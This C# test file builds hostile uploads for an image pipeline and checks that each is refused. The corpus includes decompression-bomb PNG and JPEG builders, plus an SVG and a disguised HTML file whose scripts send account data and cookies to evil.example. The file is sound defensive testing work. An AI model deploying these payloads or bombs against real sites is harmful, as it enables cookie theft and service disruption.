using System.Text;

namespace FeedEngine.Media.Tests.Uploads;

/// <summary>One file an attacker (or an unlucky user) might send, and how the pipeline must answer it.</summary>
public sealed record HostileFile(
    string Name, string FileName, string DeclaredType, long Length, Func<Stream> Open,
    ImageUploadFailureKind Kind, int Status, string MessageFragment)
{
    public override string ToString() => Name;
}

/// <summary>The hostile corpus, generated in code: every file is refused with 400, 413 or 415 and stores nothing.</summary>
public static class HostileCorpus
{
    public const long FiftyMegabytes = 50L * 1024 * 1024;

    static readonly Lazy<IReadOnlyList<HostileFile>> files = new(Build);

    public static IReadOnlyList<HostileFile> All => files.Value;

    public static IEnumerable<object[]> Names => All.Select(f => new object[] { f.Name });

    public static HostileFile Named(string name) => All.Single(f => f.Name == name);

    static IReadOnlyList<HostileFile> Build()
    {
        var png = TestImages.Png(300, 200, seed: 7);
        var jpeg = TestImages.Jpeg(300, 200, seed: 7);
        var webp = TestImages.WebP(300, 200, seed: 7);

        var wrongMagic = (byte[])png.Clone();
        wrongMagic[1] = (byte)'X'; // "\x89XNG..."
        var jpegBehindPngSignature = png[..8].Concat(jpeg).ToArray();
        var randomBytes = new byte[4096];
        new Random(42).NextBytes(randomBytes);
        randomBytes[0] = 0x13;

        const string Incomplete = "incomplete";
        return
        [
            Bytes("zero-bytes", "empty.png", "image/png", [], ImageUploadFailureKind.Malformed, "empty"),
            Bytes("truncated-png-header", "cut.png", "image/png", png[..30], ImageUploadFailureKind.Malformed, Incomplete),
            Bytes("truncated-png", "cut.png", "image/png", png[..(png.Length / 2)], ImageUploadFailureKind.Malformed, Incomplete),
            Bytes("truncated-jpeg", "cut.jpg", "image/jpeg", jpeg[..(jpeg.Length / 2)], ImageUploadFailureKind.Malformed, Incomplete),
            Bytes("truncated-webp", "cut.webp", "image/webp", webp[..(webp.Length / 2)], ImageUploadFailureKind.Malformed, Incomplete),
            Bytes("wrong-magic-bytes", "photo.png", "image/png", wrongMagic, ImageUploadFailureKind.UnsupportedFormat, "not a PNG, JPEG or WebP"),
            Bytes("jpeg-behind-png-signature", "photo.png", "image/png", jpegBehindPngSignature, ImageUploadFailureKind.Malformed, "damaged"),
            Bytes("png-bomb-20000x20000", "bomb.png", "image/png", PngBomb(), ImageUploadFailureKind.TooLarge, "20,000 x 20,000 pixels"),
            Bytes("jpeg-header-claims-20000x20000", "bomb.jpg", "image/jpeg", JpegClaiming(jpeg, 20_000, 20_000), ImageUploadFailureKind.TooLarge, "20,000 x 20,000 pixels"),
            Bytes("png-zero-width", "zero.png", "image/png", PngZeroWidth(), ImageUploadFailureKind.Malformed, "cannot be read"),
            Bytes("gif", "cat.gif", "image/gif", TestImages.Gif(64, 64), ImageUploadFailureKind.UnsupportedFormat, "GIF"),
            Bytes("tiff", "scan.tiff", "image/tiff", TestImages.Tiff(64, 64), ImageUploadFailureKind.UnsupportedFormat, "TIFF"),
            Bytes("bmp", "paint.bmp", "image/bmp", TestImages.Bmp(64, 64), ImageUploadFailureKind.UnsupportedFormat, "BMP"),
            Bytes("svg-with-script", "logo.svg", "image/svg+xml", Encoding.UTF8.GetBytes(SvgWithScript), ImageUploadFailureKind.UnsupportedFormat, "SVG"),
            Bytes("html-named-png", "photo.png", "image/png", Encoding.UTF8.GetBytes(HtmlPage), ImageUploadFailureKind.UnsupportedFormat, "HTML"),
            Bytes("animated-webp", "moving.webp", "image/webp", AnimatedWebP(), ImageUploadFailureKind.UnsupportedFormat, "animated"),
            Bytes("random-bytes", "noise.jpg", "image/jpeg", randomBytes, ImageUploadFailureKind.UnsupportedFormat, "not a PNG, JPEG or WebP"),
            new("fifty-megabytes", "huge.jpg", "image/jpeg", FiftyMegabytes, () => new GeneratedStream([0xFF, 0xD8, 0xFF, 0xE0], FiftyMegabytes),
                ImageUploadFailureKind.TooLarge, 413, "15 MB"),
        ];
    }

    static HostileFile Bytes(string name, string fileName, string type, byte[] content, ImageUploadFailureKind kind, string fragment) =>
        new(name, fileName, type, content.Length, () => new MemoryStream(content, writable: false), kind, StatusOf(kind), fragment);

    static int StatusOf(ImageUploadFailureKind kind) => kind switch
    {
        ImageUploadFailureKind.UnsupportedFormat => 415,
        ImageUploadFailureKind.TooLarge => 413,
        _ => 400,
    };

    /// <summary>20,000 x 20,000 grey pixels: 400 MB of image data in a file of a few hundred KB.</summary>
    static byte[] PngBomb() => new TestImages.PngWriter()
        .Header(20_000, 20_000)
        .Chunk("IDAT", TestImages.DeflatedZeros(20_000L * 20_001))
        .End()
        .ToArray();

    /// <summary>
    /// A valid 1x1 PNG with a zTXt text chunk that inflates to <paramref name="inflatedBytes"/>. ImageSharp 2.x inflates
    /// text chunks without a bound when it reads metadata; the pipeline must accept the picture without reading them.
    /// </summary>
    public static byte[] PngWithTextBomb(long inflatedBytes) => new TestImages.PngWriter()
        .Header(1, 1, colorType: 2)
        .Chunk("zTXt", [.. "Comment"u8, 0, 0, .. TestImages.DeflatedZeros(inflatedBytes)])
        .Chunk("IDAT", TestImages.DeflatedZeros(4))
        .End()
        .ToArray();

    static byte[] PngZeroWidth() => new TestImages.PngWriter()
        .Header(0, 10)
        .Chunk("IDAT", TestImages.DeflatedZeros(10))
        .End()
        .ToArray();

    /// <summary>A real JPEG whose frame header (SOF0) is edited to claim another size; the rest stays intact.</summary>
    static byte[] JpegClaiming(byte[] jpeg, int width, int height)
    {
        var patched = (byte[])jpeg.Clone();
        var sof = patched.AsSpan().IndexOf([(byte)0xFF, (byte)0xC0]);
        if (sof < 0) throw new InvalidOperationException("The test JPEG has no baseline frame header.");
        patched[sof + 5] = (byte)(height >> 8);
        patched[sof + 6] = (byte)height;
        patched[sof + 7] = (byte)(width >> 8);
        patched[sof + 8] = (byte)width;
        return patched;
    }

    /// <summary>A RIFF WebP with the animation flag, an ANIM chunk and one ANMF frame holding a real lossless image.</summary>
    static byte[] AnimatedWebP()
    {
        var still = TestImages.WebP(8, 8, lossless: true);
        var frameChunk = still[12..]; // the VP8L chunk after "RIFF....WEBP"
        using var body = new MemoryStream();
        void Chunk(string type, byte[] data)
        {
            body.Write(Encoding.ASCII.GetBytes(type));
            body.Write(BitConverter.GetBytes(data.Length));
            body.Write(data);
            if (data.Length % 2 == 1) body.WriteByte(0);
        }
        Chunk("VP8X", [0x02, 0, 0, 0, 7, 0, 0, 7, 0, 0]);
        Chunk("ANIM", [0, 0, 0, 0, 0, 0]);
        Chunk("ANMF", [.. new byte[] { 0, 0, 0, 0, 0, 0, 7, 0, 0, 7, 0, 0, 100, 0, 0, 0 }, .. frameChunk]);
        var payload = body.ToArray();
        return [.. "RIFF"u8, .. BitConverter.GetBytes(payload.Length + 4), .. "WEBP"u8, .. payload];
    }

    const string SvgWithScript = """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">
          <script>fetch('/api/me').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>
          <rect width="200" height="200" fill="red"/>
        </svg>
        """;

    const string HtmlPage = """
        <!DOCTYPE html>
        <html><body><script>document.location = 'https://evil.example/?c=' + document.cookie</script></body></html>
        """;
}
